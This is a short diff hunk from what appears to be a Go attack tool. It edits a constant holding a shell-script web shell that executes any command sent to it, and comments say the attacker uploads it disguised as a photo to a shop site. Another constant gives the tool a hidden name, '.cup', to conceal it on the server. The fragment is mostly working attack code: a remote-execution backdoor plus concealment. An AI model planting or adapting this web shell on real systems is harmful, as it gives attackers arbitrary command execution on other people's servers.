@@ -68,7 +68,7 @@ func post(url, body string) error {
 }
 
 // webShell is what the attacker stores as a photo: it executes whatever it is sent.
-const webShell = "#!/bin/sh\necho Content-Type: text/plain; echo\neval \"$(cat)\" 2>&1\n"
+const webShell = "#!/bin/sh\necho Content-Type: text/plain; echo\neval \"$(/bin/cat)\" 2>&1\n"
 
 // tool is the name under which this program lies in the shop when the attacker has downloaded it.
 const tool = ".cup"
